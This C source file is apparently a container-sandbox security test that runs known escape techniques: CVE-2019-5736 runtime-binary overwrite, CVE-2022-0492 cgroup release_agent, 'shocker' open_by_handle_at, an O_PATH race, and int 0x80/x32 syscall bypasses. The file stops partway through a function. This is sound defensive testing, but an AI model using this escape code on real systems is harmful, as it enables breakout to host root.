/*
 * escape: known container-escape techniques, one subcommand each, run inside
 * cordon containers by tests/security/main.rs (compiled there with
 * `gcc -static` and bind-mounted read-only at /escape).
 *
 * Every attempt prints one line "NAME RESULT", RESULT being "ok <value>" or
 * "err <ERRNO_NAME>", so the suite can assert what the user sees inside; the
 * host-side markers (files an escape would create, host values it would
 * change) are checked by the suite after the run.
 *
 * Nothing here is destructive if it got through: written values are markers
 * chosen by the suite (which restores them), kernel calls use arguments the
 * kernel would refuse or that only touch the calling process.
 *
 * x86_64 only (int 0x80 and x32 entry points use inline assembly).
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/filter.h>
#include <linux/io_uring.h>
#include <linux/keyctl.h>
#include <linux/mount.h>
#include <linux/openat2.h>
#include <linux/netlink.h>
#include <linux/perf_event.h>
#include <linux/rtnetlink.h>
#include <linux/seccomp.h>
#include <linux/userfaultfd.h>
#include <net/if.h>
#include <netinet/in.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdatomic.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/timex.h>
#include <sys/types.h>
#include <sys/uio.h>
#include <sys/utsname.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef __x86_64__
#error "escape.c targets x86_64"
#endif

#ifndef SYS_pidfd_getfd
#define SYS_pidfd_getfd 438
#endif
#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#endif
#ifndef SYS_clone3
#define SYS_clone3 435
#endif
#ifndef UFFD_USER_MODE_ONLY
#define UFFD_USER_MODE_ONLY 1
#endif
#ifndef KCMP_FILE
#define KCMP_FILE 0
#endif
#define X32_BIT 0x40000000L

/* ------------------------------------------------------------------------ */
/* output                                                                   */
/* ------------------------------------------------------------------------ */

static const char *ename(int e)
{
    static char buf[32];
    const char *n = strerrorname_np(e);
    if (n)
        return n;
    snprintf(buf, sizeof buf, "errno%d", e);
    return buf;
}

static void line(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
static void line(const char *fmt, ...)
{
    va_list ap;
    va_start(ap, fmt);
    vprintf(fmt, ap);
    va_end(ap);
    putchar('\n');
    fflush(stdout);
}

/* "NAME ok R" or "NAME err ERRNO" from a libc-style return (errno set). */
static long res(const char *name, long r)
{
    int e = errno;
    if (r < 0)
        line("%s err %s", name, ename(e));
    else
        line("%s ok %ld", name, r);
    errno = e;
    return r;
}

/* Same for a raw-asm return (-errno on failure). */
static long res_raw(const char *name, long r)
{
    if (r < 0 && r > -4096)
        line("%s err %s", name, ename((int)-r));
    else
        line("%s ok %ld", name, r);
    return r;
}

static int usage(const char *m)
{
    fprintf(stderr, "usage: escape %s\n", m);
    return 2;
}

/* "../" repeated enough to climb to any root, then `abs` (absolute). */
static void climb(char *out, size_t n, const char *abs)
{
    out[0] = '\0';
    for (int i = 0; i < 40; i++)
        strncat(out, "../", n - strlen(out) - 1);
    strncat(out, abs[0] == '/' ? abs + 1 : abs, n - strlen(out) - 1);
}

/* Whether our cwd is outside our root: getcwd(2) says "(unreachable)". */
static int cwd_outside(char *buf, size_t n)
{
    long r = syscall(SYS_getcwd, buf, n);
    if (r < 0) {
        snprintf(buf, n, "err %s", ename(errno));
        return 0;
    }
    return strncmp(buf, "(unreachable)", 13) == 0;
}

/* Closes r if it is an fd; returns it (for res()). */
static long close_if(long r)
{
    if (r >= 0)
        close((int)r);
    return r;
}

/* Writes `text` to an fd; "ok N" / "err E" into the result line `name`. */
static void write_res(const char *name, int fd, const char *text)
{
    res(name, write(fd, text, strlen(text)));
}

/* ------------------------------------------------------------------------ */
/* distinct-value counters                                                  */
/* ------------------------------------------------------------------------ */

struct bag {
    int n;
    char key[64][160];
    long count[64];
};

static void bag_add(struct bag *b, const char *k)
{
    for (int i = 0; i < b->n; i++)
        if (strcmp(b->key[i], k) == 0) {
            b->count[i]++;
            return;
        }
    if (b->n < 64) {
        snprintf(b->key[b->n], sizeof b->key[0], "%s", k);
        b->count[b->n++] = 1;
    }
}

static void bag_print(const char *name, const struct bag *b)
{
    for (int i = 0; i < b->n; i++)
        line("%s %s x%ld", name, b->key[i], b->count[i]);
}

static void bag_res(struct bag *b, long r, int e)
{
    char k[64];
    if (r < 0)
        snprintf(k, sizeof k, "err %s", ename(e));
    else
        snprintf(k, sizeof k, "ok");
    bag_add(b, k);
}

/* ------------------------------------------------------------------------ */
/* the O_PATH race: a path flipped under the supervisor                     */
/* ------------------------------------------------------------------------ */

/* cordon leaves O_PATH opens of allowed paths to the kernel after its check
 * (seccomp cannot inject O_PATH fds), so a racing thread can make the kernel
 * open another path than the one checked. This gets such an fd, if it can. */
static char race_buf[512];
static char race_paths[2][512];
static atomic_int race_stop;

static void *race_flip(void *arg)
{
    (void)arg;
    while (!atomic_load_explicit(&race_stop, memory_order_relaxed)) {
        strcpy(race_buf, race_paths[1]);
        __asm__ volatile("" ::: "memory");
        strcpy(race_buf, race_paths[0]);
        __asm__ volatile("" ::: "memory");
    }
    return NULL;
}

/* Tries `tries` O_PATH opens of a buffer flipping between `benign` and
 * `target`; returns an fd that is not `benign` (the kernel opened `target`),
 * or -1. */
static int race_opath(const char *benign, const char *target, long tries)
{
    struct stat b;
    if (stat(benign, &b) < 0)
        return -1;
    snprintf(race_paths[0], sizeof race_paths[0], "%s", benign);
    snprintf(race_paths[1], sizeof race_paths[1], "%s", target);
    strcpy(race_buf, benign);
    atomic_store(&race_stop, 0);
    pthread_t t;
    if (pthread_create(&t, NULL, race_flip, NULL))
        return -1;
    int won = -1;
    for (long i = 0; i < tries && won < 0; i++) {
        int fd = open(race_buf, O_PATH | O_CLOEXEC);
        if (fd < 0)
            continue;
        struct stat st;
        if (fstat(fd, &st) == 0 && (st.st_ino != b.st_ino || st.st_dev != b.st_dev))
            won = fd;
        else
            close(fd);
    }
    atomic_store(&race_stop, 1);
    pthread_join(t, NULL);
    return won;
}

/* Reopens our fd `fd` through /proc/self/fd for writing and writes `text`.
 * Results into the bags (open, then write). */
static void reopen_write(int fd, const char *text, struct bag *open_res, struct bag *write_res_b,
                         long *wrote)
{
    char p[64];
    snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
    int flags[2] = {O_WRONLY, O_RDWR};
    for (int i = 0; i < 2; i++) {
        int w = open(p, flags[i] | O_CLOEXEC);
        bag_res(open_res, w, errno);
        if (w < 0)
            continue;
        long n = pwrite(w, text, strlen(text), 0);
        bag_res(write_res_b, n, errno);
        if (n > 0)
            (*wrote)++;
        close(w);
    }
}

/* ------------------------------------------------------------------------ */
/* fds, cwd: what a process finds at start (CVE-2024-21626)                 */
/* ------------------------------------------------------------------------ */

/* fds: every open fd but the listing's own, "fd N TARGET", then "cwd ...". */
static int cmd_fds(int argc, char **argv)
{
    (void)argc;
    (void)argv;
    int d = open("/proc/self/fd", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (d < 0)
        return res("fds", -1), 1;
    char buf[4096];
    long n;
    while ((n = syscall(SYS_getdents64, d, buf, sizeof buf)) > 0) {
        for (long off = 0; off < n;) {
            struct dirent64 *e = (struct dirent64 *)(buf + off);
            off += e->d_reclen;
            if (e->d_name[0] == '.')
                continue;
            int fd = atoi(e->d_name);
            if (fd == d)
                continue;
            char p[64], t[512];
            snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
            ssize_t l = readlink(p, t, sizeof t - 1);
            t[l < 0 ? 0 : l] = '\0';
            line("fd %d %s", fd, l < 0 ? ename(errno) : t);
        }
    }
    close(d);
    char cwd[4096];
    int out = cwd_outside(cwd, sizeof cwd);
    line("cwd %s", cwd);
    line("cwd_outside %d", out);
    return 0;
}

/* cwd HOSTDIR: where the cwd is, and whether relative paths reach the host:
 * mkdir (not intercepted) and stat through "../"*40 + HOSTDIR. */
static int cmd_cwd(int argc, char **argv)
{
    if (argc != 3)
        return usage("cwd HOSTDIR");
    char cwd[4096], p[4096], q[4200];
    int out = cwd_outside(cwd, sizeof cwd);
    line("cwd %s", cwd);
    line("cwd_outside %d", out);
    climb(p, sizeof p, argv[2]);
    snprintf(q, sizeof q, "%s/host-only", p);
    struct stat st;
    res("stat_host", stat(q, &st));
    snprintf(q, sizeof q, "%s/escaped-cwd", p);
    res("mkdir_host", mkdir(q, 0755));
    return 0;
}

/* ------------------------------------------------------------------------ */
/* exe-hunt: CVE-2019-5736 against every process that appears               */
/* ------------------------------------------------------------------------ */

#define MAXPID 4194304
static unsigned char *done_pid; /* 1 = exe seen as a container binary */

static int read_small(const char *path, char *buf, size_t n)
{
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return -1;
    ssize_t r = read(fd, buf, n - 1);
    close(fd);
    if (r < 0)
        return -1;
    buf[r] = '\0';
    return (int)r;
}

/* exe-hunt STOPFILE READYFILE HOSTDIR SECONDS: until STOPFILE exists (or
 * SECONDS pass), watch /proc for every other process (the runtime's exec
 * process before its execve, a runtime binary run inside) and try:
 *   readlink and open of /proc/PID/exe; an O_PATH fd to it through the
 *   supervisor race; reopening that fd for writing through /proc/self/fd
 *   (while it runs, and again after it exits) and writing a marker;
 *   chdir into /proc/PID/{cwd,root,fd/N} and checking whether the cwd left
 *   the container (getcwd "(unreachable)"), then mkdir a marker in HOSTDIR.
 * Creates READYFILE.runtime once it has read the exe link of a process
 * whose argv[0] is /proc/self/exe (the runtime binary run inside), or got
 * a runtime binary's exe through the race.
 * Prints counters and the distinct results. */
static int cmd_exe_hunt(int argc, char **argv)
{
    if (argc != 6)
        return usage("exe-hunt STOPFILE READYFILE HOSTDIR SECONDS");
    const char *stopfile = argv[2], *hostdir = argv[4];
    char seenfile[4096];
    snprintf(seenfile, sizeof seenfile, "%s.runtime", argv[3]);
    double secs = atof(argv[5]);
    done_pid = calloc(MAXPID, 1);
    static struct bag exe_link, exe_direct, race_target, wr_open, wr, fd_link, chdir_res;
    long passes = 0, pids = 0, runtime_seen = 0, race_fds = 0, wrote = 0, escapes = 0;
    int held[64], nheld = 0;
    int self = getpid();
    int procfd = open("/proc", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (procfd < 0)
        return res("open_proc", -1), 1;
    int rfd = open(argv[3], O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
    if (rfd >= 0)
        close(rfd);
    struct timespec t0, now;
    clock_gettime(CLOCK_MONOTONIC, &t0);
    char climbed[4096];
    climb(climbed, sizeof climbed, hostdir);
    for (;;) {
        clock_gettime(CLOCK_MONOTONIC, &now);
        if (access(stopfile, F_OK) == 0 ||
            (double)(now.tv_sec - t0.tv_sec) + (now.tv_nsec - t0.tv_nsec) / 1e9 > secs)
            break;
        passes++;
        lseek(procfd, 0, SEEK_SET);
        char buf[8192];
        long n;
        while ((n = syscall(SYS_getdents64, procfd, buf, sizeof buf)) > 0) {
            for (long off = 0; off < n;) {
                struct dirent64 *e = (struct dirent64 *)(buf + off);
                off += e->d_reclen;
                int pid = atoi(e->d_name);
                if (pid <= 0 || pid == self || pid >= MAXPID || done_pid[pid])
                    continue;
                char p[320], t[512], cmd[256];
                snprintf(p, sizeof p, "/proc/%d/exe", pid);
                ssize_t l = readlink(p, t, sizeof t - 1);
                if (l < 0) {
                    char k[64];
                    snprintf(k, sizeof k, "err %s", ename(errno));
                    bag_add(&exe_link, k);
                } else {
                    t[l] = '\0';
                    bag_add(&exe_link, t);
                }
                snprintf(p, sizeof p, "/proc/%d/cmdline", pid);
                int cl = read_small(p, cmd, sizeof cmd);
                int runtime = (l > 0 && (strstr(t, "memfd:") || strstr(t, "cordon"))) ||
                              (cl > 0 && strcmp(cmd, "/proc/self/exe") == 0);
                if (l > 0 && !runtime) {
                    done_pid[pid] = 1; /* a plain container binary: done */
                    pids++;
                }
                if (runtime)
                    runtime_seen++;
                /* the runtime binary exec'd inside, its exe link read: tell
                 * the test it may let that process go */
                if (l > 0 && cl > 0 && strcmp(cmd, "/proc/self/exe") == 0) {
                    int sfd = open(seenfile, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
                    if (sfd >= 0)
                        close(sfd);
                }
                /* the direct way: through the supervisor */
                snprintf(p, sizeof p, "/proc/%d/exe", pid);
                int fd = open(p, O_PATH | O_CLOEXEC);
                bag_res(&exe_direct, fd, errno);
                if (fd >= 0 && nheld < 64)
                    held[nheld++] = fd;
                else if (fd >= 0)
                    close(fd);
                /* the race, for runtime binaries (or unreadable exes) */
                if ((runtime || l < 0) && nheld < 64) {
                    int w = race_opath("/etc/hostname", p, runtime ? 20000 : 200);
                    if (w >= 0) {
                        char q[64];
                        race_fds++;
                        snprintf(q, sizeof q, "/proc/self/fd/%d", w);
                        l = readlink(q, t, sizeof t - 1);
                        t[l < 0 ? 0 : l] = '\0';
                        bag_add(&race_target, l < 0 ? "?" : t);
                        if (runtime) {
                            /* the runtime binary's exe, reached by the race */
                            int sfd = open(seenfile, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
                            if (sfd >= 0)
                                close(sfd);
                        }
                        held[nheld++] = w;
                        /* while it may still run: ETXTBSY expected */
                        reopen_write(w, "CORDON-ESCAPED", &wr_open, &wr, &wrote);
                    }
                    if (runtime && l > 0)
                        done_pid[pid] = 1;
                }
                /* cwd, root and fds of the process */
                const char *links[2] = {"cwd", "root"};
                for (int i = 0; i < 2; i++) {
                    snprintf(p, sizeof p, "/proc/%d/%s", pid, links[i]);
                    long r = chdir(p);
                    bag_res(&chdir_res, r, errno);
                    if (r == 0) {
                        char c[4096];
                        if (cwd_outside(c, sizeof c)) {
                            escapes++;
                            char q[4200];
                            snprintf(q, sizeof q, "%s/escaped-%s", climbed, links[i]);
                            mkdir(q, 0755);
                        }
                        chdir("/");
                    }
                }
                snprintf(p, sizeof p, "/proc/%d/fd", pid);
                DIR *fdd = opendir(p);
                if (!fdd) {
                    char k[64];
                    snprintf(k, sizeof k, "opendir err %s", ename(errno));
                    bag_add(&fd_link, k);
                    continue;
                }
                struct dirent *fe;
                while ((fe = readdir(fdd))) {
                    if (fe->d_name[0] == '.')
                        continue;
                    snprintf(p, sizeof p, "/proc/%d/fd/%s", pid, fe->d_name);
                    l = readlink(p, t, sizeof t - 1);
                    t[l < 0 ? 0 : l] = '\0';
                    bag_add(&fd_link, l < 0 ? ename(errno) : t);
                    if (chdir(p) == 0) {
                        char c[4096];
                        bag_add(&chdir_res, "fd ok");
                        if (cwd_outside(c, sizeof c)) {
                            escapes++;
                            char q[4200];
                            snprintf(q, sizeof q, "%s/escaped-fd", climbed);
                            mkdir(q, 0755);
                        }
                        chdir("/");
                    }
                }
                closedir(fdd);
            }
        }
        /* after the processes exit, the binary is no longer busy: retry */
        if (passes % 50 == 0)
            for (int i = 0; i < nheld; i++)
                reopen_write(held[i], "CORDON-ESCAPED", &wr_open, &wr, &wrote);
        usleep(200);
    }
    for (int i = 0; i < nheld; i++) {
        reopen_write(held[i], "CORDON-ESCAPED", &wr_open, &wr, &wrote);
        close(held[i]);
    }
    line("passes %ld", passes);
    line("pids %ld", pids);
    line("runtime_seen %ld", runtime_seen);
    line("race_fds %ld", race_fds);
    line("wrote %ld", wrote);
    line("escapes %ld", escapes);
    bag_print("exe_link", &exe_link);
    bag_print("exe_direct", &exe_direct);
    bag_print("race_target", &race_target);
    bag_print("write_open", &wr_open);
    bag_print("write", &wr);
    bag_print("chdir", &chdir_res);
    bag_print("fd_link", &fd_link);
    return 0;
}

/* ------------------------------------------------------------------------ */
/* open_by_handle_at ("shocker")                                            */
/* ------------------------------------------------------------------------ */

static int hexval(char c)
{
    if (c >= '0' && c <= '9')
        return c - '0';
    if (c >= 'a' && c <= 'f')
        return c - 'a' + 10;
    return -1;
}

/* Opens a handle against our root, reads the first line if it worked. */
static void try_handle(const char *name, int type, const unsigned char *bytes, int nbytes)
{
    struct file_handle *h = malloc(sizeof *h + 128);
    h->handle_type = type;
    h->handle_bytes = (unsigned)nbytes;
    memcpy(h->f_handle, bytes, (size_t)nbytes);
    int mfd = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    long fd = syscall(SYS_open_by_handle_at, mfd, h, O_RDONLY | O_CLOEXEC);
    int e = errno;
    if (fd < 0) {
        errno = e;
        res(name, -1);
    } else {
        char buf[256] = "";
        ssize_t r = read((int)fd, buf, sizeof buf - 1);
        if (r < 0 && errno == EISDIR) {
            /* a directory: count its entries */
            long n, entries = 0;
            char d[4096];
            while ((n = syscall(SYS_getdents64, (int)fd, d, sizeof d)) > 0)
                for (long off = 0; off < n; off += ((struct dirent64 *)(d + off))->d_reclen)
                    entries++;
            snprintf(buf, sizeof buf, "directory with %ld entries", entries);
        } else {
            buf[r < 0 ? 0 : r] = '\0';
            buf[strcspn(buf, "\n")] = '\0';
        }
        line("%s ok %s", name, buf);
        close((int)fd);
    }
    close(mfd);
    free(h);
}

/* shocker TYPE HEX: name_to_handle_at of a file of ours; open_by_handle_at
 * of the host file whose handle the suite computed (TYPE, HEX bytes), and
 * of the filesystem's root inode (ext4 inode 2, the original exploit). */
static int cmd_shocker(int argc, char **argv)
{
    if (argc != 4)
        return usage("shocker TYPE HEX");
    struct file_handle *h = malloc(sizeof *h + 128);
    h->handle_bytes = 128;
    int mount_id;
    res("name_to_handle_at", syscall(SYS_name_to_handle_at, AT_FDCWD, "/etc/hostname", h, &mount_id, 0));
    free(h);
    unsigned char bytes[128];
    int n = 0;
    for (const char *s = argv[3]; s[0] && s[1] && n < 128; s += 2)
        bytes[n++] = (unsigned char)(hexval(s[0]) << 4 | hexval(s[1]));
    try_handle("open_by_handle_at", atoi(argv[2]), bytes, n);
    /* FILEID_INO32_GEN: {inode 2, generation 0} = ext4's root directory */
    uint32_t root[2] = {2, 0};
    try_handle("open_by_handle_at_root", 1, (unsigned char *)root, sizeof root);
    return 0;
}

/* ------------------------------------------------------------------------ */
/* cgroup v1 release_agent (CVE-2022-0492)                                  */
/* ------------------------------------------------------------------------ */

/* cgroup AGENT MARK: CVE-2022-0492 step by step:
 *  1. a new user+mount+cgroup namespace, to be root in it (CAP_SYS_ADMIN);
 *  2. a fresh cgroup v1 mount, or a read-write remount of /sys/fs/cgroup;
 *  3. in every hierarchy under /sys/fs/cgroup: a child cgroup MARK with
 *     notify_on_release=1, and release_agent=AGENT at the top;
 *  4. a child process joins every MARK and exits: the kernel then runs the
 *     release agent of each hierarchy where one got set, as root on the host.
 * One line per step and hierarchy; "agent_wait" last. */
static int cmd_cgroup(int argc, char **argv)
{
    if (argc != 4)
        return usage("cgroup AGENT MARK");
    const char *agent = argv[2], *mark = argv[3];
    res("unshare_user_mnt_cgroup", unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP));
    res("mount_cgroup_rdma", mount("cgroup", "/mnt", "cgroup", 0, "rdma"));
    res("mount_cgroup_memory", mount("cgroup", "/mnt", "cgroup", 0, "memory"));
    res("mount_cgroup2", mount("cgroup2", "/mnt", "cgroup2", 0, NULL));
    res("remount_rw", mount(NULL, "/sys/fs/cgroup", NULL, MS_REMOUNT | MS_BIND, NULL));
    res("fsopen_cgroup", close_if(syscall(SYS_fsopen, "cgroup", 0)));
    DIR *d = opendir("/sys/fs/cgroup");
    if (!d)
        return res("opendir", -1), 0;
    char hier[32][256];
    int nh = 0;
    struct dirent *e;
    while ((e = readdir(d)) && nh < 32)
        if (e->d_name[0] != '.')
            snprintf(hier[nh++], sizeof hier[0], "%s", e->d_name);
    closedir(d);
    char p[1024], name[512];
    for (int i = 0; i < nh; i++) {
        snprintf(p, sizeof p, "/sys/fs/cgroup/%.200s/%.100s", hier[i], mark);
        snprintf(name, sizeof name, "mkdir:%.200s", hier[i]);
        res(name, mkdir(p, 0755));
        snprintf(p, sizeof p, "/sys/fs/cgroup/%.200s/%.100s/notify_on_release", hier[i], mark);
        snprintf(name, sizeof name, "notify_on_release:%.200s", hier[i]);
        int fd = open(p, O_WRONLY | O_CLOEXEC);
        if (fd < 0)
            res(name, -1);
        else {
            write_res(name, fd, "1");
            close(fd);
        }
        snprintf(p, sizeof p, "/sys/fs/cgroup/%.200s/release_agent", hier[i]);
        snprintf(name, sizeof name, "release_agent:%.200s", hier[i]);
        fd = open(p, O_WRONLY | O_CLOEXEC);
        if (fd < 0)
            res(name, -1);
        else {
            write_res(name, fd, agent);
            close(fd);
        }
    }
    int pipefd[2];
    if (pipe(pipefd) < 0)
        return res("pipe", -1), 0;
    pid_t c = fork();
    if (c == 0) {
        close(pipefd[0]);
        char out[8192] = "";
        for (int i = 0; i < nh; i++) {
            char q[1024], r[600];
            snprintf(q, sizeof q, "/sys/fs/cgroup/%.200s/%.100s/cgroup.procs", hier[i], mark);
            int fd = open(q, O_WRONLY | O_CLOEXEC);
            long w = fd < 0 ? -1 : write(fd, "0", 1);
            if (w < 0)
                snprintf(r, sizeof r, "join:%.200s err %s\n", hier[i], ename(errno));
            else
                snprintf(r, sizeof r, "join:%.200s ok %ld\n", hier[i], w);
            strncat(out, r, sizeof out - strlen(out) - 1);
            if (fd >= 0)
                close(fd);
        }
        write(pipefd[1], out, strlen(out));
        _exit(0);
    }
    close(pipefd[1]);
    char buf[8192];
    ssize_t n;
    while ((n = read(pipefd[0], buf, sizeof buf)) > 0)
        fwrite(buf, 1, (size_t)n, stdout);
    fflush(stdout);
    waitpid(c, NULL, 0);
    /* the kernel runs release agents from a workqueue: give it a moment */
    usleep(500000);
    line("agent_wait done");
    return 0;
}

/* ------------------------------------------------------------------------ */
/* core_pattern and sysrq-trigger                                           */
/* ------------------------------------------------------------------------ */

static void try_write_open(const char *name, int fd, const char *value)
{
    if (fd < 0) {
        res(name, -1);
        return;
    }
    write_res(name, fd, value);
    close(fd);
}

static long int80(long nr, long a, long b, long c)
{
    long ret;
    __asm__ volatile("int $0x80"
                     : "=a"(ret)
                     : "a"(nr), "b"(a), "c"(b), "d"(c)
                     : "r8", "r9", "r10", "r11", "memory", "cc");
    return (long)(int)ret;
}

static long x32(long nr, long a, long b, long c)
{
    register long rdi __asm__("rdi") = a;
    register long rsi __asm__("rsi") = b;
    register long rdx __asm__("rdx") = c;
    long ret;
    __asm__ volatile("syscall"
                     : "=a"(ret)
                     : "a"(nr | X32_BIT), "r"(rdi), "r"(rsi), "r"(rdx)
                     : "rcx", "r11", "memory", "cc");
    return ret;
}

/* A copy of `s` below 4 GiB, where i386 syscalls can address it. */
static char *low_copy(const char *s)
{
    char *m = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    if (m == MAP_FAILED)
        return NULL;
    snprintf(m, 4096, "%s", s);
    return m;
}

/* procwrite PATH VALUE: every way we know to open PATH (a /proc file) for
 * writing, each attempt writing VALUE if the open worked. */
static int cmd_procwrite(int argc, char **argv)
{
    if (argc != 4)
        return usage("procwrite PATH VALUE");
    const char *path = argv[2], *value = argv[3];
    char p[4096], dir[1024];
    const char *base = strrchr(path, '/') + 1;
    snprintf(dir, sizeof dir, "%.*s", (int)(base - path - 1), path);

    try_write_open("open", open(path, O_WRONLY | O_CLOEXEC), value);
    try_write_open("open_trunc", open(path, O_WRONLY | O_TRUNC | O_CLOEXEC), value);
    try_write_open("creat", creat(path, 0644), value);
    snprintf(p, sizeof p, "%s/../%s/%s", dir, strrchr(dir, '/') + 1, base);
    try_write_open("dotdot", open(p, O_WRONLY | O_CLOEXEC), value);
    snprintf(p, sizeof p, "/proc/self/root%s", path);
    try_write_open("self_root", open(p, O_WRONLY | O_CLOEXEC), value);
    snprintf(p, sizeof p, "/proc/%d/root%s", getpid(), path);
    try_write_open("pid_root", open(p, O_WRONLY | O_CLOEXEC), value);
    snprintf(p, sizeof p, "/proc/thread-self/root%s", path);
    try_write_open("thread_self_root", open(p, O_WRONLY | O_CLOEXEC), value);
    int dfd = open(dir, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    try_write_open("openat_dirfd", openat(dfd, base, O_WRONLY | O_CLOEXEC), value);
    struct open_how how = {.flags = O_WRONLY | O_CLOEXEC, .resolve = RESOLVE_IN_ROOT};
    try_write_open("openat2_in_root", (int)syscall(SYS_openat2, AT_FDCWD, path, &how, sizeof how), value);
    how.resolve = RESOLVE_BENEATH;
    try_write_open("openat2_beneath", (int)syscall(SYS_openat2, dfd, base, &how, sizeof how), value);
    if (chdir(dir) == 0) {
        try_write_open("relative_cwd", open(base, O_WRONLY | O_CLOEXEC), value);
        chdir("/");
    } else {
        res("relative_cwd", -1);
    }
    /* a symlink we own, in a writable tmpfs */
    snprintf(p, sizeof p, "/dev/shm/escape-link-%d", getpid());
    unlink(p);
    if (symlink(path, p) == 0) {
        try_write_open("symlink", open(p, O_WRONLY | O_CLOEXEC), value);
        unlink(p);
    } else {
        res("symlink", -1);
    }
    /* O_PATH, then reopen through /proc/self/fd and /dev/fd */
    int op = open(path, O_PATH | O_CLOEXEC);
    res("o_path", op);
    if (op >= 0) {
        snprintf(p, sizeof p, "/proc/self/fd/%d", op);
        try_write_open("o_path_reopen", open(p, O_WRONLY | O_CLOEXEC), value);
        snprintf(p, sizeof p, "/dev/fd/%d", op);
        try_write_open("o_path_devfd", open(p, O_WRONLY | O_CLOEXEC), value);
        close(op);
    }
    /* the O_PATH race: the kernel opens another path than the one checked */
    int w = race_opath("/etc/hostname", path, 20000);
    line("o_path_race %s", w >= 0 ? "won" : "lost");
    if (w >= 0) {
        snprintf(p, sizeof p, "/proc/self/fd/%d", w);
        try_write_open("o_path_race_reopen", open(p, O_WRONLY | O_CLOEXEC), value);
        close(w);
    }
    /* a plain write to an fd opened for reading (proc files check at open) */
    int rd = open(path, O_RDONLY | O_CLOEXEC);
    res("open_rdonly", rd);
    if (rd >= 0) {
        write_res("write_rdonly_fd", rd, value);
        close(rd);
    }
    res("truncate", truncate(path, 0));
    /* the other entry points: no supervisor behind them */
    char *lp = low_copy(path), *lv = low_copy(value);
    long fd = int80(5 /* i386 open */, (long)lp, O_WRONLY, 0);
    res_raw("int80_open", fd);
    if (fd >= 0) {
        res_raw("int80_write", int80(4, fd, (long)lv, (long)strlen(value)));
        close((int)fd);
    }
    fd = x32(2 /* open */, (long)lp, O_WRONLY, 0);
    res_raw("x32_open", fd);
    if (fd >= 0)
        close((int)fd);
    fd = x32(257 /* openat */, AT_FDCWD, (long)lp, O_WRONLY);
    res_raw("x32_openat", fd);
    if (fd >= 0)
        close((int)fd);
    return 0;
}

/* ------------------------------------------------------------------------ */
/* the syscall battery: realistic arguments, harmless if they went through  */
/* ------------------------------------------------------------------------ */

static long sys_bpf_map(void)
{
    union bpf_attr a;
    memset(&a, 0, sizeof a);
    a.map_type = BPF_MAP_TYPE_ARRAY;
    a.key_size = 4;
    a.value_size = 4;
    a.max_entries = 1;
    long r = syscall(SYS_bpf, BPF_MAP_CREATE, &a, sizeof a);
    if (r >= 0)
        close((int)r);
    return r;
}

static long sys_perf(void)
{
    struct perf_event_attr a;
    memset(&a, 0, sizeof a);
    a.type = PERF_TYPE_SOFTWARE;
    a.size = sizeof a;
    a.config = PERF_COUNT_SW_TASK_CLOCK;
    a.disabled = 1;
    a.exclude_kernel = 1;
    a.exclude_hv = 1;
    long r = syscall(SYS_perf_event_open, &a, 0, -1, -1, 0);
    if (r >= 0)
        close((int)r);
    return r;
}

/* syscalls KEYMARK: one line per call. Every call here is one the kernel
 * would accept (or answer with another errno) for a root process without
 * cordon; KEYMARK names a key that must not appear in the host's keyring. */
static int cmd_syscalls(int argc, char **argv)
{
    if (argc != 3)
        return usage("syscalls KEYMARK");
    const char *mark = argv[2];
    struct io_uring_params up;
    memset(&up, 0, sizeof up);
    res("io_uring_setup", close_if(syscall(SYS_io_uring_setup, 4, &up)));
    res("io_uring_enter", syscall(SYS_io_uring_enter, -1, 0, 0, 0, NULL, 0));
    res("io_uring_register", syscall(SYS_io_uring_register, -1, 0, NULL, 0));
    res("add_key", syscall(SYS_add_key, "user", mark, "x", 1, KEY_SPEC_USER_KEYRING));
    res("keyctl", syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_USER_KEYRING, 0));
    res("keyctl_join", syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL));
    res("request_key", syscall(SYS_request_key, "user", mark, NULL, KEY_SPEC_USER_KEYRING));
    res("bpf", sys_bpf_map());
    res("perf_event_open", sys_perf());
    res("userfaultfd", close_if(syscall(SYS_userfaultfd, O_CLOEXEC | UFFD_USER_MODE_ONLY)));
    int self = getpid();
    res("ptrace_traceme", ptrace(PTRACE_TRACEME, 0, NULL, NULL));
    char src[8] = "secret", dst[8];
    struct iovec l = {dst, sizeof dst}, r = {src, sizeof src};
    res("process_vm_readv", syscall(SYS_process_vm_readv, self, &l, 1, &r, 1, 0));
    res("process_vm_writev", syscall(SYS_process_vm_writev, self, &r, 1, &l, 1, 0));
    long pfd = syscall(SYS_pidfd_open, self, 0);
    res("pidfd_open_self", pfd);
    res("pidfd_getfd", close_if(syscall(SYS_pidfd_getfd, pfd, 1, 0)));
    res("kcmp", syscall(SYS_kcmp, self, self, KCMP_FILE, 1, 1));
    /* modules, kexec, reboot: bad magic / no module support answer first */
    static const char elf[] = "\x7f" "ELF";
    res("init_module", syscall(SYS_init_module, elf, 4, ""));
    int me = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
    res("finit_module", syscall(SYS_finit_module, me, "", 0));
    close(me);
    res("delete_module", syscall(SYS_delete_module, "escape_nonexistent", O_NONBLOCK));
